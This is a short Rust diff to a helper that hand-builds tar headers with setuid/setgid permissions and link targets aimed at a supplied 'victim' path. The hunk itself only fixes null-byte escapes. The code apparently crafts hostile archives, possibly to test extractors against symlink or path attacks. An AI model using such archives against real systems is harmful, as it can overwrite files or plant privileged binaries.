@@ -50,14 +50,14 @@ fn archive(entries: &[Entry], victim: &str) -> Vec<u8> {
         let mut header = [0u8; 512];
         let put = |header: &mut [u8; 512], at: usize, text: &[u8]| header[at..at + text.len()].copy_from_slice(text);
         put(&mut header, 0, entry.name.as_bytes());
-        put(&mut header, 100, b"0006755\0000000001\0000000002\0");
+        put(&mut header, 100, b"0006755\x000000001\x000000002\x00");
         let content: &[u8] =
             if [b'0', 0].contains(&entry.kind) && !entry.name.ends_with('/') { &entry.content } else { b"" };
-        put(&mut header, 124, format!("{:011o}\000000000000\0", content.len()).as_bytes());
+        put(&mut header, 124, format!("{:011o}\x0000000000000\x00", content.len()).as_bytes());
         header[156] = entry.kind;
         put(&mut header, 157, entry.link.replace("VICTIM", victim).as_bytes());
         put(&mut header, 257, b"ustar\x0000");
-        put(&mut header, 329, b"0000001\0000003\0");
+        put(&mut header, 329, b"0000001\x00000003\x00");
         put(&mut header, 148, b"        ");
         let sum: u32 = header.iter().map(|b| u32::from(*b)).sum();
         put(&mut header, 148, format!("{sum:06o}\0 ").as_bytes());
